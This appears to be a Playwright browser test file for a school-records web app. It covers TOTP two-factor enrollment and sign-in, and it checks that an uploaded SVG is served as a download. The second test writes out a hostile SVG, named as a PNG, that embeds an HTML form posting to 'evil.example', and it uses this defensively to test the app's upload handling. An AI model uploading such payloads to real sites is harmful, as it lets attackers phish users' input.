"""Two-factor sign-in in Debian Chromium against the real `dangan serve`: a user enrolls an authenticator (the code
computed here with pyotp from the key the page shows), signs out, and signs in again with password and code; an
uploaded SVG is a download there, never a page."""
from __future__ import annotations

import re
import time
from pathlib import Path

import pyotp
import pytest
from playwright.sync_api import Browser, expect

from tests.browser_fixtures import change_password, log_in
from tests.engine.helpers import principal_of
from tests.support import CLASS_1, PASSWORD, build, unit_id, valid_student

pytestmark = pytest.mark.browser

NEW_PASSWORD = "Jiaoshi#2026ok"


def test_enroll_totp_and_sign_in_with_it(browser: Browser, start_server, fresh_db_url: str, shot) -> None:  # type: ignore[no-untyped-def]
    server = start_server(fresh_db_url)
    server.cli("create-user", "--username", "li.laoshi", "--role", "teacher", "--unit", CLASS_1, "--password", PASSWORD)
    context = browser.new_context(locale="zh-CN")
    page = context.new_page()
    try:
        log_in(page, server.base_url, "li.laoshi", PASSWORD)
        change_password(page, PASSWORD, NEW_PASSWORD)

        page.click("a[href='/account/2fa']")
        with page.expect_navigation():
            page.click("#two-factor-begin")
        secret = page.locator("#totp-secret").inner_text()
        assert re.fullmatch(r"[A-Z2-7]{32}", secret)
        page.fill("#code", pyotp.TOTP(secret).now())
        with page.expect_navigation():
            page.click("form[action='/account/2fa/confirm'] button[type=submit]")
        expect(page.locator("#recovery-codes li")).to_have_count(10)
        shot(page, "two-factor-01-recovery-codes")

        with page.expect_navigation():
            page.click("form[action='/logout'] button[type=submit]")
        log_in(page, server.base_url, "li.laoshi", NEW_PASSWORD)
        expect(page).to_have_url(re.compile(r"/login/2fa"))
        expect(page.locator("h1")).to_have_text("两步验证")
        # The enrollment spent this period's code; the app's next one is accepted (a phone's clock may run ahead).
        page.fill("#code", pyotp.TOTP(secret).at(time.time() + 30))
        with page.expect_navigation():
            page.click("form[action='/login/2fa'] button[type=submit]")
        expect(page).to_have_url(re.compile(r"/$"))
        expect(page.locator(".user")).to_contain_text("li.laoshi")
        shot(page, "two-factor-02-signed-in")
    finally:
        context.close()


def test_svg_attachment__downloaded_not_shown(browser: Browser, start_server, fresh_db_url: str, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    server = start_server(fresh_db_url)
    server.cli("create-user", "--username", "reg", "--role", "registrar", "--unit", "示范区教育局/示范区第一中学",
               "--password", PASSWORD)
    _app, state = build(fresh_db_url, tmp=tmp_path)
    made = state.records.create(state.definitions.forms["student"], principal_of(state, "reg"), unit_id(state, CLASS_1), valid_student())
    assert made.ok, made.issues
    school_no = state.records.get(state.definitions.forms["student"], made.record_id, principal_of(state, "reg")).values["school_no"]
    state.db.dispose()
    svg = tmp_path / "证书.png"  # an SVG that claims to be a PNG by its name
    svg.write_bytes(b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="300" height="100"><form '
                    b'xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/"><input name="p"/></form>'
                    b'</foreignObject></svg>')
    context = browser.new_context(locale="zh-CN", accept_downloads=True)
    page = context.new_page()
    try:
        log_in(page, server.base_url, "reg", PASSWORD)
        change_password(page, PASSWORD, NEW_PASSWORD)
        # 奖惩 belongs to a student: typed by 学号 (as without JavaScript), it sits in the student's class.
        page.goto(server.base_url + "/f/award/new")
        page.fill("[name=student__text]", school_no)
        page.select_option("[name=kind]", "奖励")
        page.select_option("[name=level]", index=1)
        page.fill("[name=title]", "三好学生")
        page.fill("[name=date]", "2024-06-01")
        page.set_input_files("[name=attachment]", str(svg))
        with page.expect_navigation():
            page.click("form.record-form button[type=submit]:not(.implicit-submit)")
        link = page.locator("a[href^='/files/']").first.get_attribute("href")
        with page.expect_download() as download:
            page.evaluate("href => { const a = document.createElement('a'); a.href = href; document.body.appendChild(a); a.click(); }", link)
        assert download.value.suggested_filename == "证书.png"
    finally:
        context.close()
